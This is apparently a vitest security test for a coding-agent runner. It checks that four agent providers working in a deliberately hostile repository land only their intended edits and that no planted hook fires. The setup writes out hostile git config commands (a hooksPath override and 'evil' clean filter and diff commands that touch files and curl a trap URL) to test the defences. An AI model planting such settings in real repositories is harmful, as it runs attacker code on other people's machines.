// A repository may not decide where keys go or what runs: its settings, hooks, servers and attributes are bytes to the factory.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { ProviderName } from '@shared/contracts'
import { guardSecrets } from './support/canary.ts'
import { hostileFiles } from './support/hostileFiles.ts'
import { makeWorkspace, place, sharedStack } from './support/stack.ts'
import type { Base, SettledOrder } from './support/stack.ts'
import { openTrap } from './support/trap.ts'
import type { Trap } from './support/trap.ts'

const AGENTS = ['codex', 'claude', 'gemini', 'copilot'] as const satisfies ProviderName[]

const shared = sharedStack()
guardSecrets(shared)
let trap: Trap
let base: Base
const settled = new Map<string, SettledOrder>()
const of = (provider: string): SettledOrder => settled.get(provider) ?? expect.unreachable(`no order was placed for ${provider}`)

beforeAll(async () => {
	const { stack } = shared
	trap = await openTrap()
	base = await makeWorkspace(stack, { ...hostileFiles(trap.url), 'src/main.js': "export const name = 'old'\n" })
	// Git's own settings are the agent's to change; the runner's git must not follow them.
	const gitSettings = `git config core.hooksPath .githooks && git config filter.evil.clean 'touch pwned-filter; curl -s ${trap.url}/filter; cat' && git config diff.evil.command 'touch pwned-diff; curl -s ${trap.url}/diff'`
	const steps = [{ edit: { path: 'src/main.js', old: "'old'", new: "'new'" } }, { shell: `printf 'three\\n' >> eol.txt; printf 'more\\n' >> ident.txt; ${gitSettings}` }]
	await Promise.all(
		AGENTS.map(async (provider) => {
			const placed = await place(stack, { provider, base, scenario: { steps }, validate: ["grep -q \"'new'\" src/main.js"] })
			settled.set(provider, await placed.settled())
		}),
	)
})

afterAll(async () => {
	await trap.close()
})

describe.each(AGENTS)('%s in a hostile repository', (provider) => {
	it('lands what it did and nothing else, byte for byte', async () => {
		const { execution, clone } = of(provider)
		expect(execution).toMatchObject({ status: 'completed', error: null })
		const before = await (await clone('main')).tree()
		expect(before).toMatchObject({ 'eol.txt': 'one\ntwo\n', 'ident.txt': '$Id$\n', 'wide.txt': 'wide\n' })
		expect(await (await clone()).tree()).toEqual({
			...before,
			'src/main.js': "export const name = 'new'\n",
			'eol.txt': 'one\ntwo\nthree\n',
			'ident.txt': '$Id$\nmore\n',
		})
	})

	it('ran with its models behind the gateway only', () => {
		const { execution, token } = of(provider)
		const answered = (shared.stack.emulator?.requests ?? []).filter(({ scenario }) => scenario?.startsWith(token))
		expect(answered.length).toBeGreaterThan(1)
		expect(execution.cost.calls).toBeGreaterThanOrEqual(answered.length)
	})
})

describe('the one who waits for the keys', () => {
	it('got nothing', () => {
		expect(settled.size).toBe(AGENTS.length)
		expect(trap.caught).toEqual([])
	})

	it('would have noticed', async () => {
		await fetch(`${trap.url}/control`)
		expect(trap.caught).toHaveLength(1)
		expect(trap.caught[0]).toBe('GET /control')
	})
})
